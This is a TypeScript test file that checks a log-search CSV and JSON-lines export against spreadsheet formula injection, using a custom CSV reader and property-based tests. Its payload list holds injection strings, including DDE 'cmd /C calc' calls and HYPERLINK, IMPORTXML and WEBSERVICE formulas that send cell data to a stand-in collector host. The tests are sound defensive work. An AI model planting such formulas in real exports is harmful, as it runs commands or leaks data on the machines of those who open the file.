import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvCell, csvText } from '../../../src/gateway/log/search/export/csv.ts'
import { exportText } from '../../../src/gateway/log/search/export/export-text.ts'
import { showEntries } from '../../../src/gateway/log/search/log-line.ts'

/** RFC 4180, written apart from the writer: quoted fields with doubled quotes, records ended by CRLF. */
const readCsv = (text: string): readonly (readonly string[])[] => {
  const rows: string[][] = []
  let row: string[] = []
  for (let at = 0; at < text.length;) {
    if (text[at] !== '"') throw new Error(`a cell at ${at} is not quoted`)
    let cell = ''
    for (at += 1; ; at += 1) {
      if (at >= text.length) throw new Error('a cell does not end')
      if (text[at] !== '"') cell += text.charAt(at)
      else if (text[at + 1] === '"') {
        cell += '"'
        at += 1
      } else break
    }
    row.push(cell)
    at += 1
    if (text[at] === ',') at += 1
    else if (text.startsWith('\r\n', at)) {
      rows.push(row)
      row = []
      at += 2
    } else throw new Error(`after the cell at ${at} comes neither a comma nor the end of the record`)
  }
  return rows
}

const unquoted = (cell: string): string => (cell.startsWith("'") ? cell.slice(1) : cell)
/** Characters that open a formula in a spreadsheet, and what may stand before them unseen. */
const leads = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '\ufe66',
  '\ufe62',
  '\ufe63',
  '\ufe6b',
  '\u2212',
]
const unseen = ['', ' ', '\u00a0', '\u200b', '\ufeff', '\u0000', '\u2060', '\u3000', '\t ', '\r\n']
const isLive = (cell: string): boolean => {
  const first = [...cell].find((char) => !/[\s\u0000-\u001f\u200b-\u200f\u2060]/.test(char)) ?? ''
  return leads.includes(cell.slice(0, 1)) || leads.includes(first)
}

const payloads = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://collector.invalid/?x="&A1,"open")',
  'SUM(1+9)*cmd|" /C calc"!A0',
  'IMPORTXML(CONCAT("http://collector.invalid/",A1),"//a")',
  '10+20+cmd|" /C notepad"!A0',
  'WEBSERVICE("http://collector.invalid/")',
  '"; =1+1; "',
  '",=1+1,"',
  "'=1+1",
]
const hostile = unseen.flatMap((before) => leads.flatMap((lead) => payloads.map((payload) => `${before}${lead}${payload}`)))

describe('a CSV file (S15)', () => {
  test('has no cell that a spreadsheet would run', () => {
    expect(hostile.length).toBeGreaterThan(1_500)
    const cells = readCsv(csvText([hostile]))[0]!
    expect(cells.filter(isLive)).toEqual([])
    expect(cells.map(unquoted)).toEqual(hostile)
    // The control: as they came, they would have been run.
    expect(hostile.filter(isLive).length).toBeGreaterThan(1_300)
  })

  test('reads back exactly what was written, whatever it was', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(...hostile),
      fc.constantFrom('', '"', '""', ',', '\r\n', "'", "''", '\ufeff'),
    )
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { maxLength: 8 }), (rows) => {
        const read = readCsv(csvText(rows))
        expect(read.map((row) => row.map(unquoted))).toEqual(rows)
        expect(read.flat().filter(isLive)).toEqual([])
      }),
      { numRuns: 500 },
    )
  })

  test('quotes every cell', () => {
    for (const value of ['', 'plain', 'a,b', 'say "so"']) expect(csvCell(value)).toMatch(/^".*"$/s)
  })
})

/** An entry in which everything that somebody may write is this. */
const entryOf = (text: string): Buffer =>
  Buffer.from(
    JSON.stringify({
      ...{ at: text, operation: text, event: text, effect: text, reason: text, offenderId: text, purpose: text, legalGateway: text },
      ...{ justification: text, caller: { agencyId: 'own', clientId: text, personSub: text } },
      categories: [
        {
          ...{ category: text, outcome: text, supplier: text, effect: text, fields: [text], permittedBy: [text] },
          ...{ agreement: { agreementId: text }, reasons: [{ code: text, ruleId: text, stage: text }] },
        },
      ],
    }),
  )

const exported = (format: 'csv' | 'json-lines' | 'hmpps-audit', texts: readonly string[]): string => {
  const found = texts.map((text, leafIndex) => ({ leafIndex, entryId: `id-${leafIndex}`, placeAt: '', canonical: entryOf(text) }))
  const committed = { entryId: '', leafHash: Buffer.alloc(32), salt: Buffer.alloc(32), receiptDigest: null }
  const shown = showEntries({ everything: false, agencyId: 'own' }, found)
  return exportText(
    format,
    shown.map((one) => ({ shown: one, committed })),
  ).content
}

describe('an export of hostile entries', () => {
  test('as CSV has as many cells as columns in every row, and none in any column that is live', () => {
    const rows = readCsv(exported('csv', hostile))
    expect(rows.length).toBe(hostile.length + 1)
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([20]))
    expect(rows.flat().filter(isLive)).toEqual([])
    const justifications = rows.slice(1).map((row) => unquoted(row[rows[0]!.indexOf('justification')]!))
    expect(justifications).toEqual(hostile)
  })

  test.each(['json-lines', 'hmpps-audit'] as const)('as %s has one line for each entry, and each says what was written', (format) => {
    const texts = [...hostile, 'two\nlines', '\u2028', '\u001b[31m']
    const lines = exported(format, texts).split('\n')
    expect(lines.pop()).toBe('')
    expect(lines.length).toBe(texts.length)
    const said = lines.map((line) => {
      const parsed = JSON.parse(line) as { entry?: { justification: string }; details?: string }
      return parsed.entry?.justification ?? (JSON.parse(parsed.details!) as { justification: string }).justification
    })
    expect(said).toEqual(texts)
  })
})
